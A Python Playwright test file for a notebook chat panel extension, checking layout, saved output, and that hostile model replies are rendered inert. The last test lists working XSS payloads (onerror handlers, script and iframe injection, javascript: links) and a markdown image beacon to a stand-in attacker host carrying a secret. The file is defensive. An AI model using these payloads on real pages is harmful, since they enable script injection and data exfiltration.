@pytest.mark.parametrize(("theme", "width"), [("Light", 1600), ("Dark", 700)])
def test_a_panel_fills_a_new_view_of_its_output_with_one_scrollbar(
    open_with: OpenWith, theme: str, width: int
) -> None:
    """Only the conversation scrolls, and the prompt stays at the bottom."""
    notebook = open_with(MAKE, theme=theme, width=width)
    panel = panel_in(notebook)
    for number in (1, 2):
        panel.ask(EXPLAIN)
        panel.expect_answers(number)

    notebook.cell(0).locator(".jp-InputPrompt").first.click()
    notebook.execute("notebook:create-output-view")
    view = notebook.page.locator(".jp-LinkedOutputView")
    beside = PanelOnPage(view.get_by_role("region", name="Claude panel"))
    expect(beside.answers).to_have_count(2)
    expect(beside.button("Send")).to_be_in_viewport()
    notebook.wait_until_still()
    notebook.screenshot(f"panel-view-{theme.lower()}-{width}")

    scrollers = view.evaluate(SCROLLERS)
    assert len(scrollers) == 1
    assert "claude-magic-conversation" in scrollers[0]
    place, whole = beside.root.bounding_box(), view.bounding_box()
    assert abs(place["y"] + place["height"] - whole["y"] - whole["height"]) <= 2
    assert abs(place["width"] - whole["width"]) <= 2
    beside.button("Settings").click()
    expect(beside.root.get_by_label("Thread")).to_be_visible()
    beside.ask("Say exactly: from the view")
    beside.expect_answers(3)


def test_a_saved_panel_is_a_line_and_a_conversation(open_with: OpenWith) -> None:
    """In the file, and in the page without a kernel: no widget as text, no stylesheet, and no error."""
    notebook = open_with(MAKE)
    panel = panel_in(notebook)
    panel.ask("Say exactly: kept\nin two lines")
    panel.expect_answers(1)
    expect(notebook.output(0).locator(".claude-magic-transcript")).to_have_count(1)

    outputs = notebook.saved().cells[0].outputs
    notebook.execute("kernelmenu:shutdown")
    notebook.open()
    expect(notebook.output(0).locator("blockquote")).to_be_visible()
    notebook.screenshot("panel-reopened")

    assert outputs[0].data["text/plain"] == "Claude panel on thread panel-1: run this cell to open it."
    assert "<style" not in str(outputs)
    assert "VBox(" not in str(outputs)
    assert notebook.output(0).evaluate(RED_WORDS) == []


RED_WORDS = """root => [...root.querySelectorAll("*")].filter(node => {
    const [red, green, blue] = getComputedStyle(node).color.match(/\\d+/g).map(Number);
    return node.checkVisibility() && node.textContent.trim() && red > 150 && green < 110 && blue < 110;
}).map(node => node.outerHTML.slice(0, 200))"""


def test_a_hostile_answer_does_nothing_in_a_panel(open_with: OpenWith, sim: Simulator) -> None:
    """While it streams and at the end, markup of a model is text, and no other host is requested."""
    payloads = [
        '<img src=x onerror="window.pwned=1">',
        "<script>window.pwned=1</script>",
        "[click](javascript:window.pwned=1)",
        "![beacon](https://evil.example/beacon.png?secret)",
        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
        "<style>body{display:none}</style>",
        r"$\href{javascript:window.pwned=1}{x}$",
    ]
    sim.script(reply(chunks=[part for payload in payloads for part in (payload[:9], payload[9:] + "\n\n")]))
    notebook = open_with(MAKE)
    panel = panel_in(notebook)

    panel.ask("<img src=x onerror='window.pwned=1'> What is this?")
    panel.expect_answers(1)
    notebook.wait_until_still()

    assert notebook.page.evaluate("window.pwned") is None
    assert panel.root.locator("script, iframe, style, img").count() == 0
    assert panel.root.locator("a[href^='javascript']").count() == 0
    assert notebook.outside_requests == []
